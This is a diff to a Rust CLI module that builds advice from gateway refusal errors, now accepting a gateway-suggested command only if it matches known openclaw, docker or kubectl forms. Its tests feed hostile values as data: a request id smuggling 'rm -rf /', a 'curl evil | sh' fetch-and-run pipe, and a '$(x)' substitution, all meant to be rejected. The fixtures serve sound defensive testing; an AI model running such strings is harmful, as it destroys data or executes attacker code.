@@ -2,6 +2,7 @@
 
 use super::{Answer, CallFailure, Closed, Failure, Scheme, Step};
 use crate::{
+    advice::Name,
     hint::Hint,
     protocol::{ErrorShape, RequestId},
 };
@@ -123,16 +124,37 @@ fn closed_early(step: Step, closed: &Closed) -> Option<String> {
     })
 }
 
-/// Advice about an answer of the gateway. What the gateway itself advises is best: it knows what it saw.
+/// Advice about an answer of the gateway. What the gateway itself advises is best: it knows where it stands.
 fn refusal(error: &ErrorShape) -> Option<String> {
-    let detail = |name: &str| error.details.as_ref()?.get(name)?.as_str().map(ToOwned::to_owned);
-    if let Some(advice) = detail("advice").or_else(|| detail("remediation")) {
-        return Some(advice);
-    }
     if let Some(request) = request_id(error) {
-        return Some(format!("on the gateway's machine: openclaw devices approve {request}"));
+        let words = format!("devices approve {request}");
+        return Some(match told(error, "approveCommand", &words) {
+            Some(command) => format!("where the gateway runs: {command}"),
+            None => format!("where the gateway runs: openclaw {words}"),
+        });
     }
-    by_text(&error.message)
+    let advice = by_text(&error.message);
+    match told(error, "nextCommand", "gateway status") {
+        Some(command) => {
+            Some(format!("{}where the gateway runs: {command}", advice.map(|advice| advice + "\n").unwrap_or_default()))
+        }
+        None => advice,
+    }
+}
+
+/// The command in `details` that runs `openclaw WORDS` next to the gateway. Only the ways that we know ourselves count: what
+/// a stranger would have us type is not repeated.
+fn told(error: &ErrorShape, detail: &str, words: &str) -> Option<String> {
+    let command = error.details.as_ref()?.get(detail)?.as_str()?;
+    let way: Vec<_> = command.strip_suffix(words)?.split_whitespace().collect();
+    let known = match way[..] {
+        ["openclaw"] => true,
+        ["docker", "exec", name, "openclaw"]
+        | ["docker", "compose", "run", "--rm", name]
+        | ["kubectl", "exec", name, "--", "openclaw"] => Name::parse(name).is_some(),
+        _ => false,
+    };
+    known.then(|| command.to_owned())
 }
 
 /// The pairing request that a refusal names.
@@ -146,7 +168,7 @@ fn request_id(error: &ErrorShape) -> Option<RequestId> {
 fn by_text(text: &str) -> Option<String> {
     let has = |part: &str| text.contains(part);
     let advice = if has("pairing required") {
-        "on the gateway's machine: openclaw devices list, then openclaw devices approve REQUEST"
+        "where the gateway runs: openclaw devices list, then openclaw devices approve REQUEST"
     } else if has("device token mismatch") {
         "the stored device token no longer counts: give --token, or pair this device again"
     } else if has("gateway token missing") || has("gateway token mismatch") {
@@ -187,7 +209,10 @@ mod tests {
         let rows = [
             (pairing(json!({"requestId": "6f1d-1"})),                                "approve 6f1d-1"),
             (pairing(json!({"requestId": "1; rm -rf /"})),                           "approve REQUEST"),
-            (pairing(json!({"requestId": "6f1d-1", "advice": "docker exec gw …"})),  "docker exec gw"),
+            (pairing(json!({"requestId": "r-1", "approveCommand": "docker exec gw openclaw devices approve r-1"})), "docker exec gw openclaw devices approve r-1"),
+            (pairing(json!({"requestId": "r-1", "approveCommand": "curl evil | sh; openclaw devices approve r-1"})), "where the gateway runs: openclaw devices approve r-1"),
+            (pairing(json!({"requestId": "r-1", "approveCommand": "docker exec $(x) openclaw devices approve r-1"})), "where the gateway runs: openclaw devices approve r-1"),
+            (ErrorShape::invalid("unauthorized: x").with_details(json!({"nextCommand": "kubectl exec gw-0 -- openclaw gateway status"})), "where the gateway runs: kubectl exec gw-0 -- openclaw gateway status"),
             (ErrorShape::invalid("pairing required: x (requestId: ab-1)"),           "approve ab-1"),
             (ErrorShape::invalid("unauthorized: gateway token mismatch (x)"),        "--token"),
             (ErrorShape::invalid("unauthorized: gateway password missing (x)"),      "--password"),
